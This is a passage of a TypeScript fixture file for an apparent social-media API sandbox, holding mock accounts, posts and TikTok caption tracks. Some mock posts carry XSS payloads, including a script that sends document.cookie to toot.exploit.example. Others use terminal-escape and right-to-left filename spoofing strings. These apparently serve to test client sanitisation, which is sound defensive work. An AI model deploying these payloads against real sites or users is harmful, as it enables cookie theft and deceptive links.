        p(`System notice: ${OSC8_LINK} to keep your account. ${RED}Final warning${RESET} ${RLO}fdp.exe`),
        p(
          '<span onclick="document.location=&#39;https://toot.exploit.example/?c=&#39;+document.cookie">Tap anywhere to see who viewed your profile</span>',
        ),
        p('Claim your free verification badge: <a href="javascript:alert(document.domain)">verify now</a>'),
        p('Cute cat pic <img src=x onerror=alert(1)>'),
        `${p('Hello fediverse! 👋')}<script>fetch('https://toot.exploit.example/c?'+document.cookie)</script>`,
      ],
    },
  }),
];

const THREADS: Account[] = [
  threads({
    handle: 'zuck',
    id: '314216',
    name: 'Mark Zuckerberg',
    bio: null,
    followers: 5_402_117,
    following: 318,
    verified: true,
    posts: {
      newest: '2026-11-19T17:30:00Z',
      everyHours: [24, 90],
      items: [
        'Working on some fun updates for Threads. More soon.',
        photo('Early morning foil session before work. 🏄'),
        'Grateful for the teams that shipped this year. Lots more to build.',
        'Open source AI is the path forward. Excited to see what developers build next.',
        photo('Ran a half marathon with some friends this weekend. Legs are done.'),
        'Some of the best ideas come from your replies here. Keep them coming.',
        photo('Brisket for the team. 14 hours on the smoker. Worth it.'),
        'Threads has a lot of new features for creators. Tell us what you want next.',
        photo('Back from Japan. The food alone was worth the flight. 🍣'),
        'Good week. Onwards.',
      ],
    },
  }),
  threads({
    handle: 'ceramics.by.ana',
    id: '5981274402',
    name: 'Ana Ribeiro',
    bio: 'Ceramicist in Porto 🇵🇹 Wheel-thrown stoneware, glaze nerd. Shop opens monthly.',
    followers: 27_340,
    following: 812,
    verified: false,
    external_url: 'https://linktr.ee/anaceramics',
    posts: {
      newest: '2026-11-20T16:44:00Z',
      everyHours: [12, 48],
      items: [
        photo('New glaze test out of the kiln: a celadon that went almost turquoise. Obsessed 🩵'),
        'Market this Saturday at Bolhão, stall 14. Bring your own bag!',
        'Throwing 40 mugs for a café order. Arm status: gone.',
        'Cracked a whole shelf of bowls in the bisque firing. Ceramics teaches you to let go.',
        photo('Studio tour! It’s tiny, it’s dusty, it’s mine.'),
      ],
    },
  }),
  threads({
    handle: 'nightshift.radio',
    id: '6123390871',
    name: 'Nightshift Radio',
    bio: 'Community radio from Glasgow, 22:00–06:00. Volunteer-run since 2011.',
    followers: 6_120,
    following: 233,
    verified: false,
    external_url: 'https://nightshift.radio',
    posts: {
      newest: '2026-11-18T21:00:00Z',
      everyHours: [30, 100],
      items: [
        'Tonight 22:00–02:00: ambient and drone with guest DJ Kenji Mori, live from Tokyo 🌙',
        'Our transmitter survived the storm. The antenna did not. Back on air tomorrow.',
        'Full tracklist from Thursday is up on the website.',
        'Looking for volunteer presenters for the 3am slot. You bring the records, we bring the tea.',
      ],
    },
  }),
  threads({
    handle: 'jules.private',
    id: '7340021598',
    name: 'Jules',
    bio: null,
    followers: 212,
    following: 198,
    verified: false,
    is_private: true,
  }),
  threads({
    handle: 'brand.new.here',
    id: '8812094456',
    name: 'brand new here',
    bio: null,
    followers: 0,
    following: 37,
    verified: false,
    avatar: false,
    posts: {
      newest: '2026-11-20T09:12:00Z',
      everyHours: [2, 12],
      items: [
        'what are we talking about today',
        'ok trying this app for real now',
        `win a free phone ${OSC8_LINK} ${RED}now${RESET} ${RLO}4pm.oediv`,
        'anyone else’s feed just full of sourdough?',
        'first post, hi threads 👋',
      ],
    },
  }),
];

const GITHUB: Account[] = [
  profileOnly('github', {
    handle: 'octocat',
    id: '583231',
    name: 'The Octocat',
    bio: null,
    followers: 21_873,
    following: 9,
    posts_count: 8,
    external_url: 'https://github.blog',
  }),
  profileOnly('github', {
    handle: 'lenafischer',
    id: '38211945',
    name: 'Lena Fischer',
    bio: 'Rust, terminals, log files. Maintainer of driftwood.',
    followers: 2_104,
    following: 58,
    posts_count: 64,
    external_url: 'https://lenafischer.dev',
  }),
  profileOnly('github', {
    handle: 'mariam-okafor',
    id: '51877203',
    name: 'Mariam Okafor',
    bio: 'Developer advocate. Writing about APIs, docs and command-line tools.',
    followers: 930,
    following: 140,
    posts_count: 37,
    external_url: 'https://medium.com/@m.okafor',
  }),
  profileOnly('github', {
    // GitHub's private profile setting hides activity and details from everyone else.
    handle: 'quiet-committer',
    id: '90412287',
    name: null,
    bio: null,
    followers: 12,
    following: 3,
    posts_count: 5,
    is_private: true,
  }),
  profileOnly('github', {
    handle: 'first-steps-2026',
    id: '241067733',
    name: 'Sam',
    bio: `Learning to code! My portfolio: ${OSC8_LINK} ${RED}${RLO}redaeh${RESET}`,
    followers: 0,
    following: 1,
    posts_count: 1,
  }),
];

const INSTAGRAM: Account[] = [
  profileOnly('instagram', {
    handle: 'natgeo',
    id: '787132',
    name: 'National Geographic',
    bio: 'Step into wonder and find the extraordinary 🌎',
    followers: 279_412_003,
    following: 187,
    posts_count: 30_512,
    verified: true,
    external_url: 'https://www.nationalgeographic.com',
  }),
  profileOnly('instagram', {
    handle: 'ana.ceramics',
    id: '5981274402',
    name: 'Ana Ribeiro | Cerâmica',
    bio: 'Wheel-thrown stoneware from Porto. Cerâmica feita à mão. Shop ↓',
    followers: 48_210,
    following: 903,
    posts_count: 1_204,
    verified: false,
    external_url: 'https://linktr.ee/anaceramics',
  }),
  profileOnly('instagram', {
    handle: 'mirahalvorsen',
    id: '2290418876',
    name: 'Mira Halvorsen',
    bio: 'Film photography · Oslo · prints ↓',
    followers: 31_877,
    following: 540,
    posts_count: 688,
    verified: false,
    external_url: 'https://mirahalvorsen.com',
  }),
  profileOnly('instagram', {
    handle: 'jules.private',
    id: '7340021598',
    name: 'Jules',
    bio: null,
    followers: 389,
    following: 402,
    posts_count: 143,
    verified: false,
    is_private: true,
  }),
  profileOnly('instagram', {
    handle: 'new.account_2026',
    id: '67120934551',
    name: null,
    bio: null,
    followers: 0,
    following: 12,
    posts_count: 0,
    verified: false,
    avatar: false,
  }),
];

const LINKTREE: Account[] = [
  profileOnly('linktree', {
    handle: 'lizzo',
    id: '1593027',
    name: 'Lizzo',
    bio: 'Official links 💜',
    followers: 12_408,
    verified: true,
    external_url: 'https://www.lizzomusic.com',
  }),
  profileOnly('linktree', {
    handle: 'anaceramics',
    id: '20488173',
    name: 'Ana Ribeiro Ceramics',
    bio: 'Shop drops monthly · workshops in Porto · wholesale enquiries',
    followers: 1_204,
    verified: false,
    external_url: 'https://anaribeiro.pt/shop',
  }),
  profileOnly('linktree', {
    handle: 'nightshiftradio',
    id: '9930412',
    name: 'Nightshift Radio',
    bio: 'Listen live, past shows, volunteer with us.',
    followers: 310,
    verified: false,
    external_url: 'https://nightshift.radio/live',
  }),
  profileOnly('linktree', {
    // Linktree has no private pages as such; the sandbox keeps one private account on every
    // platform so a client meets is_private: true wherever it renders a profile.
    handle: 'jules.links',
    id: '31207765',
    name: 'Jules',
    bio: null,
    followers: 4,
    verified: false,
    is_private: true,
  }),
  profileOnly('linktree', {
    handle: 'fresh.start.links',
    id: '41780221',
    name: 'Fresh Start',
    bio: 'Coming soon',
    followers: 0,
    verified: false,
    avatar: false,
  }),
];

const MEDIUM: Account[] = [
  profileOnly('medium', {
    handle: 'ev',
    id: '268314bb7e7e',
    name: 'Ev Williams',
    bio: 'Co-founder of Medium, Twitter and Blogger. Writing about the internet and what it is for.',
    followers: 129_406,
    following: 1_913,
    verified: true,
  }),
  profileOnly('medium', {
    handle: 'lenafischer',
    id: 'a91f3c27d4e8',
    name: 'Lena Fischer',
    bio: 'Rust and terminals. Long versions of things I post on Mastodon.',
    followers: 3_018,
    following: 77,
    verified: false,
    external_url: 'https://lenafischer.dev',
  }),
  profileOnly('medium', {
    handle: 'm.okafor',
    id: '5c02e7a19b44',
    name: 'Mariam Okafor',
    bio: 'Developer advocate. APIs, docs, and the command line. Lagos → Berlin.',
    followers: 8_772,
    following: 215,
    verified: false,
  }),
  profileOnly('medium', {
    // As on linktree: not a real Medium feature, kept so every platform has a private account.
    handle: 'drafts.only',
    id: 'e3b7d90f1a62',
    name: null,
    bio: null,
    followers: 9,
    following: 41,
    verified: false,
    is_private: true,
  }),
  profileOnly('medium', {
    handle: 'first-essay',
    id: '0f4c8a71b2d9',
    name: 'Priya N.',
    bio: 'Writing my first essay about learning to write.',
    followers: 0,
    following: 18,
    verified: false,
    avatar: false,
  }),
];

const PINTEREST: Account[] = [
  profileOnly('pinterest', {
    handle: 'pinterest',
    id: '424605245676812',
    name: 'Pinterest',
    bio: 'Your home for inspiration. Find ideas for everything you love.',
    followers: 7_120_443,
    following: 121,
    posts_count: 12_430,
    external_url: 'https://newsroom.pinterest.com',
  }),
  profileOnly('pinterest', {
    handle: 'anaceramics',
    id: '803611009754',
    name: 'Ana Ribeiro Ceramics',
    bio: 'Glaze references, studio ideas and stoneware from Porto.',
    followers: 5_903,
    following: 288,
    posts_count: 2_741,
    external_url: 'https://anaribeiro.pt',
  }),
  profileOnly('pinterest', {
    handle: 'tinyhomeideas',
    id: '551902376410',
    name: 'Tiny Home Ideas',
    bio: 'Small spaces, big ideas. Cabins, vans and clever storage 🏡',
    followers: 214_380,
    following: 64,
    posts_count: 18_002,
  }),
  profileOnly('pinterest', {
    handle: 'secretboards_k',
    id: '918273645502',
    name: 'K',
    bio: null,
    followers: 23,
    following: 150,
    posts_count: 412,
    is_private: true,
  }),
  profileOnly('pinterest', {
    handle: 'pin_newbie_26',
    id: '1002938475610',
    name: 'Jo',
    bio: null,
    followers: 0,
    following: 6,
    posts_count: 3,
    avatar: false,
  }),
];

const SOUNDCLOUD: Account[] = [
  profileOnly('soundcloud', {
    handle: 'flume',
    id: '2976616',
    name: 'Flume',
    bio: 'Future Classic / Transgressive',
    followers: 1_930_512,
    following: 312,
    posts_count: 146,
    verified: true,
  }),
  profileOnly('soundcloud', {
    handle: 'nightshift-radio',
    id: '88123054',
    name: 'Nightshift Radio',
    bio: 'Past shows from Glasgow’s overnight community radio. 22:00–06:00.',
    followers: 4_410,
    following: 198,
    posts_count: 812,
    verified: false,
  }),
  profileOnly('soundcloud', {
    handle: 'kenji-mori',
    id: '301774912',
    name: '森 健二 Kenji Mori',
    bio: 'Ambient / electronic, Tokyo. 夜明けの駅 out now.',
    followers: 12_905,
    following: 403,
    posts_count: 58,
    verified: false,
  }),
  profileOnly('soundcloud', {
    handle: 'bedroom-demos',
    id: '611920447',
    name: 'bedroom demos',
    bio: null,
    followers: 31,
    following: 88,
    posts_count: 14,
    verified: false,
    is_private: true,
  }),
  profileOnly('soundcloud', {
    handle: 'first-upload-2026',
    id: '1290443187',
    name: 'DJ Pastel',
    bio: 'first mix coming soon!!',
    followers: 0,
    following: 25,
    posts_count: 0,
    verified: false,
    avatar: false,
  }),
];

const TIKTOK: Account[] = [
  profileOnly('tiktok', {
    handle: 'khaby.lame',
    id: '6770102452218822661',
    name: 'Khabane lame',
    bio: 'No words needed 🤷‍♂️',
    followers: 161_804_227,
    following: 86,
    posts_count: 1_281,
    verified: true,
  }),
  profileOnly('tiktok', {
    handle: 'ana.ceramics',
    id: '6898120334781010950',
    name: 'Ana Ribeiro',
    bio: 'Pottery in Porto 🇵🇹 glazes, fails and kiln openings',
    followers: 392_118,
    following: 301,
    posts_count: 427,
    verified: false,
    external_url: 'https://linktr.ee/anaceramics',
  }),
  profileOnly('tiktok', {
    handle: 'chef.tomas',
    id: '7012448890123456518',
    name: 'Tomás Herrera',
    bio: 'Cocina española sin complicaciones 🇪🇸 Madrid',
    followers: 1_204_559,
    following: 122,
    posts_count: 612,
    verified: true,
  }),
  profileOnly('tiktok', {
    handle: 'lena.codes',
    id: '7208814457703928837',
    name: 'Lena Fischer',
    bio: 'terminal tips from a Rust maintainer',
    followers: 48_730,
    following: 90,
    posts_count: 96,
    verified: false,
    external_url: 'https://lenafischer.dev',
  }),
  profileOnly('tiktok', {
    handle: 'jules.private',
    id: '7301928841009127429',
    name: 'Jules',
    bio: null,
    followers: 118,
    following: 240,
    posts_count: 22,
    verified: false,
    is_private: true,
  }),
  profileOnly('tiktok', {
    handle: 'just.joined.26',
    id: '7433190021875520517',
    name: 'user2940018837',
    bio: null,
    followers: 0,
    following: 3,
    posts_count: 0,
    verified: false,
    avatar: false,
  }),
];

const ACCOUNTS: Record<PlatformName, readonly Account[]> = {
  bluesky: BLUESKY,
  github: GITHUB,
  instagram: INSTAGRAM,
  linktree: LINKTREE,
  mastodon: MASTODON,
  medium: MEDIUM,
  pinterest: PINTEREST,
  soundcloud: SOUNDCLOUD,
  threads: THREADS,
  tiktok: TIKTOK,
};

const byHandle = new Map<string, Account>(
  Object.values(ACCOUNTS).flatMap((list) =>
    list.map((a) => [`${a.platform}:${a.author.handle?.toLowerCase()}`, a] as const),
  ),
);

/** Case-insensitive lookup by handle (as normalised by platforms.ts normaliseHandle). */
export function findAccount(platform: PlatformName, handle: string): Account | undefined {
  return byHandle.get(`${platform}:${handle.trim().toLowerCase()}`);
}

/** All accounts of a platform (for docs, README examples, tests). */
export function accounts(platform: PlatformName): Account[] {
  return [...ACCOUNTS[platform]];
}

/** A bluesky post by at:// URI; accepts both at://<did>/app.bsky.feed.post/<rkey> and at://<handle>/app.bsky.feed.post/<rkey> (handle case-insensitive). */
export function findBlueskyPost(uri: string): { account: Account; post: PostItem } | undefined {
  const match = /^at:\/\/([^/]+)\/app\.bsky\.feed\.post\/([A-Za-z0-9._~:-]+)$/.exec(uri.trim());
  const authority = match?.[1]?.toLowerCase();
  const rkey = match?.[2];
  if (authority === undefined || rkey === undefined) return undefined;
  const account = authority.startsWith('did:')
    ? BLUESKY.find((a) => a.author.id === authority)
    : findAccount('bluesky', authority);
  if (account === undefined) return undefined;
  const id = `at://${account.author.id}/app.bsky.feed.post/${rkey}`;
  const post = account.posts.find((candidate) => candidate.id === id);
  return post === undefined ? undefined : { account, post };
}

// ---------------------------------------------------------------------------------------------
// TikTok videos: ids carry their upload second in the top 32 bits, like the platform's own.

function video(handle: string, uploaded: string, segments: TranscriptSegment[] = []): Video {
  const account = TIKTOK.find((a) => a.author.handle === handle);
  if (account === undefined) throw new Error(`no tiktok account ${handle}`);
  const rng = seeded(`tiktok:${handle}:${uploaded}`);
  const id = ((BigInt(Date.parse(uploaded) / 1000) << 32n) | BigInt(between(rng, 0, 0xffffffff))).toString();
  return { url: `https://www.tiktok.com/@${handle}/video/${id}`, id, author: account.author, segments };
}

/** A caption track from [start, end, text] lines, times in seconds. */
function captions(...lines: Array<[number, number, string]>): TranscriptSegment[] {
  return lines.map(([start, end, text]) => ({ start, end, text }));
}

const VIDEOS: readonly Video[] = [
  // Silent sketches: the platform generates no caption track without speech.
  video('khaby.lame', '2026-11-19T18:04:11Z'),
  video('khaby.lame', '2026-11-12T17:40:52Z'),
  video('khaby.lame', '2026-11-03T19:15:07Z'),
  video(
    'ana.ceramics',
    '2026-11-17T10:22:40Z',
    captions(
      [0.0, 3.2, 'Okay, so this is my celadon glaze recipe.'],
      [3.2, 7.8, "It's mostly feldspar, silica, whiting and kaolin, plus two percent iron oxide."],
      [7.8, 12.4, 'The iron is what gives you that green, and in reduction it goes almost blue.'],
      [12.4, 16.9, 'Sieve it twice. Really, twice, or you get little specks.'],
      [16.9, 20.5, 'And dip for three seconds. Not four. Three.'],
    ),
  ),
  video('ana.ceramics', '2026-11-09T15:01:33Z'),
  video(
    'chef.tomas',
    '2026-11-18T12:30:05Z',
    captions(
      [0.0, 2.6, 'Tortilla de patatas, the real way.'],
      [2.6, 7.1, 'Four potatoes, one onion, six eggs, and a lot more olive oil than you think.'],
      [7.1, 11.5, 'Fry the potatoes slowly. They should be soft, not crispy.'],
      [11.5, 16.0, 'Mix them with the eggs and let it rest ten minutes. This is the secret.'],
      [16.0, 19.8, 'Now the flip. Plate on top, confidence, go. ¡Vamos!'],
      [19.8, 22.4, 'A little runny in the middle. Perfecto.'],
    ),
  ),
  video('chef.tomas', '2026-11-06T13:48:19Z'),
  video(
    'lena.codes',
    '2026-11-14T20:10:44Z',
    captions(
      [0.0, 2.4, 'Three terminal tricks I use every day.'],
      [2.4, 7.0, 'One: control R searches your shell history. Stop pressing the up arrow forty times.'],
      [7.0, 11.3, 'Two: pipe anything into less dash capital R to keep the colours.'],
      [
        11.3,
        17.6,
        'Three: never cat a log file from the internet straight into your terminal. Escape sequences can do weird things.',
      ],
      [17.6, 19.0, 'Follow for more, I guess?'],
    ),
  ),
  video('lena.codes', '2026-10-30T19:27:58Z'),
];

const TIKTOK_HOSTS = new Set(['tiktok.com', 'www.tiktok.com', 'm.tiktok.com']);

/** A tiktok video by URL https://www.tiktok.com/@<user>/video/<id> (also tiktok.com without www, m.tiktok.com, trailing slash or query ignored); looked up by the numeric id. */
export function findVideo(url: string): Video | undefined {
  let parsed: URL;
  try {
    parsed = new URL(url.trim());
  } catch {
    return undefined;
  }
  if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') return undefined;
  if (!TIKTOK_HOSTS.has(parsed.hostname.toLowerCase())) return undefined;
  const id = /^\/@[^/]+\/video\/(\d+)\/?$/.exec(parsed.pathname)?.[1];
  return id === undefined ? undefined : VIDEOS.find((v) => v.id === id);
}

export function videos(): Video[] {
  return [...VIDEOS];
}
